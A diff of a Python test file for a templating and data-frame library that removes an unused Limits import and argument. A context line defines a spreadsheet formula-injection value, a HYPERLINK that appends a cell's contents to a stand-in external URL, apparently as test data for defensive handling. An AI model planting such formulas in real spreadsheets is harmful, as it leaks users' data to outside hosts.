@@ -14,7 +14,6 @@ import llx_magic as llx
 from llx_magic.observe.frames.frames import reply_frame
 from llx_magic.observe.frames.inert import InertFrame
 from llx_magic.profiles.document import ModelProfile, Profile
-from llx_magic.template.tables import Limits
 from llx_magic.template.template import Template
 
 FORMULA = '=HYPERLINK("http://a.example/?"&A1)'
@@ -106,7 +105,7 @@ def test_numbers_and_times_are_written_as_they_are():
 
 
 def test_a_prompt_takes_such_a_frame_as_it_takes_any(lb_frames):
-    rendered = Template("{{ h.head(1)[['outcome']] }}").render({"h": lb_frames[1]}, Limits())
+    rendered = Template("{{ h.head(1)[['outcome']] }}").render({"h": lb_frames[1]})
     assert "answered" in rendered.text
 
 
